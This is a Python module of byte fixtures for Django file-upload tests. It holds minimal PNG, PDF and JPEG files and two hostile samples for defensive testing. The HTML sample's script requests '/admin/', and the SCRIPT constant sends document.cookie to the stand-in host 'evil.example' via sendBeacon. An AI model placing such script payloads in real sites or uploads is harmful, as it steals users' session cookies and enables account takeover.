"""Small files whose bytes are what their names say, and some that are not, for upload tests."""

import struct
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    body = kind + data
    return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))


# One white pixel.
PNG = (
    b"\x89PNG\r\n\x1a\n"
    + _png_chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    + _png_chunk(b"IDAT", zlib.compress(b"\x00\xff"))
    + _png_chunk(b"IEND", b"")
)
# An empty one-page document.
PDF = (
    b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
    b"2 0 obj <</Type /Pages /Kids [3 0 R] /Count 1>> endobj\n"
    b"3 0 obj <</Type /Page /Parent 2 0 R /MediaBox [0 0 595 842]>> endobj\n"
    b"trailer <</Root 1 0 R>>\n%%EOF\n"
)
# A JFIF header, as a camera writes it, and the end-of-image marker.
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00\xff\xd9"
HTML = b"<!DOCTYPE html>\n<html><body><script>fetch('/admin/').then(r => r.text())</script>"
SCRIPT = b"navigator.sendBeacon('https://evil.example/', document.cookie);\n"


def upload(name: str, content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def pdf(name: str = "scan.pdf") -> SimpleUploadedFile:
    return upload(name, PDF)


def png(name: str = "photo.png") -> SimpleUploadedFile:
    return upload(name, PNG)


def jpeg(name: str = "photo.jpg") -> SimpleUploadedFile:
    return upload(name, JPEG)
